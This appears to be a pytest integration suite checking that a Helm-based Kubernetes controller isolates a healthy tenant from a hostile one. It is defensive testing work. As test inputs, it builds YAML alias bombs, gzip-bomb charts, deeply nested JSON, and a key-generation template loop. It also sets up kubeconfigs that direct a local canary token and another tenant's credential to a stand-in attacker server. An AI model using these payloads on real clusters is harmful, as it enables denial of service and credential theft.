"""Two tenants on one controller: a hostile one and a healthy one (issue 15's end-to-end suite).

Each tenant owns one namespace and is confined by namespace-scoped RBAC: an ``author`` ServiceAccount writes
its objects (every hostile object below is created *as the tenant*, ``kubectl --as``, so the API server
proves the tenant was allowed to write it) and a ``deployer`` ServiceAccount is what its HelmApps name as
``serviceAccount``. A loopback listener stands in for the attacker's server: it serves an alias-bomb index, a
gzip-bomb chart, a repository that never answers, and plays a Kubernetes API server that records every
credential it is sent.

Tenant B applies everything hostile at once; tenant A's new HelmApp must then reach Ready within 30 s. The
controller runs the whole module as one process: it must never exit or restart, its log must hold no
traceback, and its peak RSS (VmHWM) is printed and must stay under 500 MB. The detailed guarantees, one test
each, live in ``test_security_*.py``; this module shows they hold together, with both tenants present.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import io
import json
import tarfile
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from controller_helpers import (
    REPO_ROOT,
    Cluster,
    Controller,
    HelmLog,
    helm_log,  # noqa: F401 (module fixture)
    helmapp,
    make_ns,
    published,  # noqa: F401  (module fixture)
    wait_for,
    wait_ready,
    workdir,  # noqa: F401  (module fixture)
)

from helmops.kubeio.bounded import loads as bounded_loads
from helmops.reconcile.release import OWNER_LABEL, owner_value

pytestmark = pytest.mark.integration

CANARY_FILE_TOKEN = "canary-file-token-7f3a9c"  # sits in a local file the controller must never read
CANARY_A_TOKEN = "canary-tenant-a-token-2b8e41"  # tenant A's kubeconfig credential B must never borrow
MAX_RSS_MB = 500


# --- the attacker's server ------------------------------------------------------------------------------
class Attacker:
    """A loopback HTTP server that records every request (path and Authorization header)."""

    def __init__(self, bomb_tgz: bytes) -> None:
        self.requests: list[tuple[str, str]] = []
        self.bomb_tgz = bomb_tgz
        self._lock = threading.Lock()
        self._stop = threading.Event()
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                with attacker._lock:
                    attacker.requests.append((self.path, self.headers.get("Authorization") or ""))
                if self.path.startswith("/hang/"):
                    # accept, never answer (bounded: gives up after 45 s or at teardown)
                    attacker._stop.wait(45)
                    return
                if self.path.startswith("/bomb/index.yaml"):
                    body = alias_bomb_index().encode()
                elif self.path.startswith("/gz/"):
                    body = attacker.bomb_tgz
                else:
                    body = b'{"kind":"Status","apiVersion":"v1","status":"Failure","code":403}'
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                with contextlib.suppress(OSError):
                    self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = int(self.server.server_address[1])
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def seen(self) -> list[tuple[str, str]]:
        with self._lock:
            return list(self.requests)

    def start(self) -> Attacker:
        self.thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self.server.shutdown()
        self.server.server_close()


def alias_bomb_index() -> str:
    """A chart index whose aliases expand to 9**9 entries (a few hundred bytes on the wire)."""
    lines = ["apiVersion: v1", "generated: '2026-01-01T00:00:00Z'", "bombs:"]
    lines.append('  l0: &l0 ["x","x","x","x","x","x","x","x","x"]')
    for i in range(1, 9):
        lines.append(f"  l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]")
    lines.append("entries:\n  bomb:\n  - name: bomb\n    version: 1.0.0\n    urls: [bomb-1.0.0.tgz]\n    extra: *l8")
    return "\n".join(lines) + "\n"


def gzip_bomb_chart(uncompressed_mib: int = 512) -> bytes:
    """A chart .tgz of a few hundred KiB whose one template inflates to ``uncompressed_mib`` MiB."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for name, data in [
            ("bomb/Chart.yaml", b"apiVersion: v2\nname: bomb\nversion: 1.0.0\n"),
            ("bomb/values.yaml", b"{}\n"),
        ]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        info = tarfile.TarInfo("bomb/templates/zeros.yaml")
        info.size = uncompressed_mib * 1024 * 1024

        class Zeros(io.RawIOBase):
            def __init__(self, n: int) -> None:
                self.left = n

            def readable(self) -> bool:
                return True

            def readinto(self, b: Any) -> int:
                n = min(len(b), self.left)
                b[:n] = bytes(n)
                self.left -= n
                return n

        tar.addfile(info, io.BufferedReader(Zeros(info.size), 1 << 20))
    return gzip.compress(raw.getvalue(), compresslevel=9)


DEEP = "@@deep@@"  # replaced in the JSON text: too deep for json.dumps, as deep as the API server accepts


def deep_json(levels: int) -> str:
    return '{"a":' * levels + '"bottom"' + "}" * levels


def kubeconfig(server: str, user: dict[str, Any]) -> str:
    return json.dumps(
        {
            "apiVersion": "v1",
            "kind": "Config",
            "clusters": [{"name": "c", "cluster": {"server": server}}],
            "users": [{"name": "u", "user": user}],
            "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u"}}],
            "current-context": "x",
        }
    )


def vm_hwm_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return 0.0


# --- tenants --------------------------------------------------------------------------------------------
class Tenant:
    """One namespace, a Role allowing everything in it, bound to ``author`` and ``deployer``."""

    def __init__(self, cluster: Cluster, prefix: str) -> None:
        self.cluster = cluster
        self.ns = make_ns(cluster, prefix)
        for sa in ("author", "deployer"):
            cluster.kubectl("create", "serviceaccount", sa, "-n", self.ns)
        cluster.apply(
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "Role",
                "metadata": {"name": "tenant", "namespace": self.ns},
                "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}],
            }
        )
        cluster.apply(
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "RoleBinding",
                "metadata": {"name": "tenant", "namespace": self.ns},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "tenant"},
                "subjects": [
                    {"kind": "ServiceAccount", "name": sa, "namespace": self.ns} for sa in ("author", "deployer")
                ],
            }
        )

    @property
    def author(self) -> str:
        return f"system:serviceaccount:{self.ns}:author"

    def apply(self, obj: dict[str, Any]) -> None:
        """Written with the tenant's own rights: the API server refuses what the tenant may not write."""
        obj.setdefault("metadata", {})["namespace"] = self.ns
        text = json.dumps(obj).replace(f'"{DEEP}"', deep_json(5000))
        self.cluster.kubectl("create", "--as", self.author, "-f", "-", input=text)

    def secret(self, name: str, data: dict[str, str], labels: dict[str, str] | None = None) -> None:
        self.apply(
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "metadata": {"name": name, "labels": labels or {}},
                "data": {k: base64.b64encode(v.encode()).decode() for k, v in data.items()},
            }
        )

    def delete(self, kind: str, name: str, *, wait: bool = False) -> None:
        self.cluster.kubectl(
            "delete", kind, name, "-n", self.ns, "--as", self.author, f"--wait={str(wait).lower()}", check=False
        )


# --- fixtures -------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def cluster(management_cluster: Any) -> Cluster:
    """The repo's CRDs (HelmApp, Cluster, ClusterGroup) plus Fleet's GitRepoRestriction."""
    from support.tools import reference_dir

    c = Cluster(management_cluster)
    for crd in sorted((REPO_ROOT / "crds").glob("*.yaml")):
        c.kubectl("apply", "-f", str(crd))
    c.kubectl("apply", "-f", str(reference_dir() / "fleet-v0.12.0-gitreporestriction-crd.yaml"))
    for crd in ("helmapps", "clusters", "gitreporestrictions"):
        c.kubectl("wait", "--for=condition=Established", f"crd/{crd}.fleet.cattle.io", "--timeout=60s")
    return c


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    a = Attacker(gzip_bomb_chart()).start()
    yield a
    a.stop()


@pytest.fixture(scope="module")
def canary_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("controller-host") / "token"
    path.write_text(CANARY_FILE_TOKEN)
    return path


@pytest.fixture(scope="module")
def controller(
    cluster: Cluster,
    management_cluster: Any,
    helm_log: tuple[Path, HelmLog],  # noqa: F811
    workdir: Path,  # noqa: F811
) -> Iterator[Controller]:
    ctl = Controller(
        management_cluster,
        helm_log[0],
        workdir,
        namespaces=("tenant-*",),
        NAMESPACE=make_ns(cluster, "helmops-system"),
        HELMOPS_HELM_CONCURRENCY="4",
        # the production default: B's four hogs then hold four of B's seven workers, and B's deletions still run
        HELMOPS_RECONCILER_WORKERS="8",
        HELMOPS_DRIFT_CHECK_SECONDS="5",
    ).start()
    yield ctl
    code = ctl.stop()
    assert code == 0, ctl.text()[-4000:]


# --- the suite ------------------------------------------------------------------------------------------
def test_hostile_tenant_cannot_hurt_a_healthy_one(
    cluster: Cluster,
    controller: Controller,
    published: dict[str, Path],  # noqa: F811
    chart_repo: Any,
    attacker: Attacker,
    canary_file: Path,
    helm_log: tuple[Path, HelmLog],  # noqa: F811
) -> None:
    assert controller.proc is not None
    pid = controller.proc.pid
    a, b = Tenant(cluster, "tenant-a"), Tenant(cluster, "tenant-b")
    repo = chart_repo.url

    def app(name: str, t: Tenant, **kw: Any) -> dict[str, Any]:
        spec_extra = kw.pop("spec", {})
        obj = helmapp(name, t.ns, repo=kw.pop("repo", repo), chart=kw.pop("chart", "hello"), target=t.ns, **kw)
        obj["spec"].update(spec_extra)
        return obj

    # Tenant A: a deployed release (the victim), a values Secret and a kubeconfig Secret B will reach for.
    a.apply(app("victim", a, version="0.1.0", releaseName="victim", spec={"serviceAccount": "deployer"}))
    wait_ready(cluster, "victim", a.ns, timeout=120)
    victim_revisions = cluster.release_secrets("victim", a.ns)
    a.secret("private-values", {"values.yaml": "password: tenant-a-secret\n"})
    a.secret("a-kubeconfig", {"value": kubeconfig(attacker.url, {"token": CANARY_A_TOKEN})})

    # Tenant B: everything hostile at once, written with B's own rights.
    hostile: list[str] = []

    def attack(name: str, **kw: Any) -> None:
        b.apply(app(name, b, **kw))
        hostile.append(name)

    attack("deep-values", version="0.1.0", values={"deep": DEEP}, spec={"serviceAccount": "deployer"})
    b.secret("kc-file", {"value": kubeconfig(attacker.url, {"tokenFile": str(canary_file)})})
    b.apply({"apiVersion": "fleet.cattle.io/v1alpha1", "kind": "Cluster", "metadata": {"name": "stolen"},
             "spec": {"kubeConfigSecret": "kc-file"}})  # fmt: skip
    attack("token-file", version="0.1.0", spec={"serviceAccount": "deployer", "targets": [{"clusterName": "stolen"}]})
    b.apply({"apiVersion": "fleet.cattle.io/v1alpha1", "kind": "Cluster", "metadata": {"name": "borrowed"},
             "spec": {"kubeConfigSecret": "a-kubeconfig", "kubeConfigSecretNamespace": a.ns}})  # fmt: skip
    attack("borrowed-cluster", version="0.1.0",
           spec={"serviceAccount": "deployer", "targets": [{"clusterName": "borrowed"}]})  # fmt: skip
    attack("into-a", version="0.1.0", spec={"serviceAccount": "deployer", "namespace": a.ns, "deleteNamespace": True,
           "namespaceLabels": {"owned-by": "tenant-b"}})  # fmt: skip
    attack("adopt-victim", version="0.2.0", releaseName="victim", spec={"namespace": a.ns})
    private = {"name": "private-values", "namespace": a.ns, "key": "values.yaml"}
    sa = {"serviceAccount": "deployer"}
    attack("values-from-a", version="0.1.0", spec=sa, valuesFrom=[{"secretKeyRef": private}])
    attack("alias-bomb", repo=f"{attacker.url}/bomb", chart="bomb", version="1.0.0")
    attack("gzip-bomb", repo="", chart=f"{attacker.url}/gz/bomb-1.0.0.tgz")
    attack("hanging-repo", repo=f"{attacker.url}/hang", chart="hello", version="0.1.0")
    attack("keygen", version="0.1.0", values={"k": '${ range until 50 }${ genPrivateKey "rsa" }${ end }'})
    attack("bad-namespace", version="0.1.0", spec={"namespace": "Not_A_Namespace"})
    big = {"apiVersion": "fleet.cattle.io/v1alpha1", "kind": "HelmApp"}
    big.update(app("huge-annotations", b, version="0.1.0"))
    # 248 KB: leaves the controller less than its 16 KiB for its own annotations
    big["metadata"]["annotations"] = {f"fill.example.com/k{i}": "x" * 62_000 for i in range(4)}
    b.apply(big)
    hostile.append("huge-annotations")
    # a release Secret planted in B's own namespace, claiming to belong to A's victim HelmApp
    b.secret("sh.helm.release.v1.planted.v1", {"release": "x"},
             labels={"owner": "helm", "name": "planted", "status": "deployed", "version": "1",
                     OWNER_LABEL: owner_value(a.ns, "victim")})  # fmt: skip
    # Every hostile HelmApp is reported: a False condition and a Warning Event.
    def reported(name: str) -> bool:
        out = cluster.cp.kubectl("get", "helmapps.fleet.cattle.io", name, "-n", b.ns, "-o", "json", check=False)
        obj = bounded_loads(out.stdout) if out.returncode == 0 else {}  # deep-values is deeper than json allows
        conds = (obj.get("status") or {}).get("conditions") or []
        bad = any(c.get("type") in ("Ready", "Accepted") and c.get("status") == "False" for c in conds)
        warned = any(e.get("type") == "Warning" for e in cluster.events(name, b.ns))
        return bad and warned

    for name in hostile:
        wait_for(f"hostile HelmApp {name} reported", lambda n=name: reported(n), timeout=90)

    # Nothing reached tenant A or left the controller.
    seen = attacker.seen()
    assert not [p for p, _ in seen if not p.startswith(("/bomb/", "/gz/", "/hang/"))], seen
    assert not any(CANARY_FILE_TOKEN in auth or CANARY_A_TOKEN in auth for _, auth in seen), seen
    assert cluster.release_secrets("victim", a.ns) == victim_revisions, "tenant A's release was touched"
    ns_a = cluster.get("namespace", a.ns, "") or {}
    assert "owned-by" not in ((ns_a.get("metadata") or {}).get("labels") or {})

    # B deletes its HelmApps: A's namespace and release survive.
    for name in ("into-a", "adopt-victim"):
        b.delete("helmapps.fleet.cattle.io", name)
    wait_for("B's HelmApps gone", lambda: all(cluster.helmapp(n, b.ns) is None for n in ("into-a", "adopt-victim")), 90)
    assert cluster.get("namespace", a.ns, "") is not None, "tenant A's namespace was deleted"
    assert (cluster.get("namespace", a.ns, "") or {}).get("metadata", {}).get("deletionTimestamp") is None
    assert cluster.release_secrets("victim", a.ns) == victim_revisions
    for name in ("into-a", "adopt-victim"):
        hostile.remove(name)

    # Now B holds helm for a long time: slow pre-install hooks that never finish (no kubelet). B's own other
    # HelmApps then wait for B's share of the slots; A's must not.
    for i in range(4):
        attack(f"hog-{i}", chart="slowhook", version="0.1.0", spec={"serviceAccount": "deployer"}, timeoutSeconds=3600)

    # B's share of the helm slots (3 of 4) is taken by its hogs before A asks for one
    wait_for("B's hogs hold helm", lambda: all(helm_log[1].calls(f"hog-{i}", "upgrade") for i in range(3)), 60)
    start = time.monotonic()
    a.apply(app("healthy", a, version="0.1.0", spec={"serviceAccount": "deployer"}))
    wait_ready(cluster, "healthy", a.ns, timeout=60)
    took = time.monotonic() - start
    print(f"\ntenant A's HelmApp Ready {took:.1f} s after creation, with {len(hostile)} hostile HelmApps present")
    assert took <= 30, f"healthy HelmApp took {took:.1f} s"

    # A deletes its victim: the planted Secret in B's namespace neither blocks it nor is touched.
    a.delete("helmapps.fleet.cattle.io", "victim")
    wait_for("A's victim deleted", lambda: cluster.helmapp("victim", a.ns) is None, 60)
    assert cluster.get("secret", "sh.helm.release.v1.planted.v1", b.ns) is not None

    # The controller never restarted, logged no traceback, and stayed small.
    assert controller.proc.poll() is None and controller.proc.pid == pid
    log = controller.text()
    assert "Traceback" not in log, log[-6000:]
    assert CANARY_FILE_TOKEN not in log and CANARY_A_TOKEN not in log and "tenant-a-secret" not in log
    peak = vm_hwm_mb(pid)
    print(f"controller peak RSS (VmHWM) {peak:.0f} MB")
    assert peak < MAX_RSS_MB, f"controller peak RSS {peak:.0f} MB"

